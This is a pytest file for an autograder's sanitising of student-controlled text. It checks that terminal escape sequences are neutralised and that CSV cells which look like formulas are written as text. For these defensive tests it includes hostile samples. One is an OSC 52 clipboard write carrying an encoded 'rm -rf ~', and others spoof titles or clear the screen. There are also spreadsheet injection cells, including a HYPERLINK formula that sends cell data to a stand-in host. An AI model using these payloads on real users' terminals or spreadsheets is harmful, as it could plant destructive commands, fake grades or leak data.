"""Text a student or an LMS controls stays inert in the instructor's terminal and spreadsheets
(autograder/pipeline/untrusted.py)."""
from __future__ import annotations

import csv
import io

import pytest

from autograder.pipeline.untrusted import csv_writer, visible

# what a hostile exception message can carry to a terminal
ATTACKS = {
    "title": "\x1b]0;all students 20/20\x07",  # OSC 0: set the window title
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",  # OSC 52: write the clipboard
    "clear": "\x1b[2J\x1b[H",  # clear the screen, cursor home
    "fake line": "ok\r all students 20/20",  # carriage return: overwrite the line shown
    "bidi": "score \u202e02/0\u202c",  # right-to-left override: reorders what is shown
    "C1": "\x9b2J",  # the one-byte CSI
    "new line": "fine\nbob  20/20",  # a line of its own in the summary table
}


@pytest.mark.parametrize("name", ATTACKS)
def test_no_control_character_reaches_the_terminal(name):
    text = ATTACKS[name]
    shown = visible(text)
    assert all(c.isprintable() for c in shown), repr(shown)  # nothing a terminal acts on
    # and nothing hidden: each control character is named where it was
    assert shown == "".join(c if c.isprintable() else c.encode("unicode_escape").decode() for c in text)


def test_printable_text_is_left_alone():
    text = "José's ValueError: expected 3 tokens, got 4 (k=2, α=0.81) 日本"
    assert visible(text) == text


def _written(rows) -> str:
    f = io.StringIO()
    csv_writer(f).writerows(rows)
    return f.getvalue()


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
                                  "|cmd", "%0A=1"])
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(cell):
    (row,) = csv.reader(io.StringIO(_written([["student", cell]])))
    assert row[1].startswith("'"), row  # the apostrophe: a spreadsheet shows the rest as text


@pytest.mark.parametrize("cell", ["alice", "5", "-3", "17.5", "0.8 | 1.2", "José Ñúñez"])
def test_names_and_numbers_are_written_as_they_are(cell):
    (row,) = csv.reader(io.StringIO(_written([[cell]])))
    assert row == [cell]


# ----------------------------------------------------------------------------- the tiny lab, whole way
# A Moodle download of the tiny lab: one student named like a formula, whose `add` raises an exception whose
# message carries a terminal's escape sequences; one honest student. Graded by grade_class, then the summary the
# command prints and every CSV the run writes are read back.
UNICODE_NAME = "josé lópez 李"  # a folder of its own (not Moodle's): the student's id is the name as it is
EVIL_NAME = '=HYPERLINK("x.example?"&A1,"all twenty")'  # a folder name: no slash
EVIL_MESSAGE = ATTACKS["title"] + ATTACKS["clear"] + "all students 20/20" + ATTACKS["clipboard"]
RAISES = f"def add(a, b):\n    raise ValueError({EVIL_MESSAGE!r})\n\n\ndef scale(v, c):\n    return np.asarray(v) * c\n"


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    import nbformat

    import grading_fixtures as F
    from autograder.pipeline import Config, build_template, grade_class
    from autograder.sandbox import Limits
    from load import scaled
    from released import seed_template

    base = tmp_path_factory.mktemp("untrusted-class")
    limits = Limits(cell_timeout_s=scaled(5), notebook_timeout_s=scaled(40), memory_mb=3072, file_mb=200,
                    output_kb=64)
    cfg = Config(F.LAB, base / "subs", base / "out", F.make_course(base / "course"), workers=2, limits=limits,
                 lab_checks=F.LAB_CHECKS)
    seed_template(cfg)
    layout = build_template(cfg)
    release = nbformat.read(cfg.out / "template" / "labs" / F.LAB / f"{F.LAB}.ipynb", as_version=4)
    for folder, solution in ((f"{EVIL_NAME}_101_assignsubmission_file_", RAISES),
                             ("Ada Lovelace_102_assignsubmission_file_", F.SOLUTION),
                             (UNICODE_NAME, F.SOLUTION)):
        (cfg.submissions / folder).mkdir(parents=True)
        nbformat.write(F.student(release, solution), cfg.submissions / folder / f"{F.LAB}.ipynb")
    results = grade_class(cfg, progress=False)
    return cfg, layout, results


@pytest.mark.slow
def test_a_students_message_reaches_the_terminal_inert(graded_class):
    from autograder.pipeline.report import summary

    cfg, layout, results = graded_class
    assert any("all students 20/20" in p for r in results for p in r["problems"])  # the message did travel
    text = summary(cfg, layout, results)
    assert "all students 20/20" in text
    assert not [c for c in text if not c.isprintable() and c != "\n"], repr(text)  # nothing a terminal acts on
    assert "\\x1b]0;" in text  # and what was there is named


@pytest.mark.slow
def test_every_csv_the_run_writes_keeps_a_formula_as_text(graded_class):
    cfg, _, results = graded_class
    files = ["grades.csv", "lms.csv", "grades_moodle.csv"]
    assert all((cfg.out / f).is_file() for f in files)
    seen = []
    for name in files:
        with open(cfg.out / name, newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                    if "HYPERLINK" in cell:
                        seen.append(name)
                        assert cell.startswith("'="), (name, cell)
    assert {"lms.csv", "grades_moodle.csv"} <= set(seen)  # the name is there, as text
    assert sorted(r["score"] for r in results) == [3.0, 5.0, 5.0]  # the formula's student graded too: scale is right


@pytest.mark.slow
def test_a_unicode_name_is_graded_like_any_other(graded_class):
    cfg, _, results = graded_class
    r = next(r for r in results if r["student"] == UNICODE_NAME)
    assert r["score"] == 5.0 and not r["problems"], r
    assert (cfg.out / "feedback" / UNICODE_NAME / "tiny" / "tiny.html").is_file()
    with open(cfg.out / "grades.csv", newline="") as f:
        assert UNICODE_NAME in [row["student"] for row in csv.DictReader(f)]
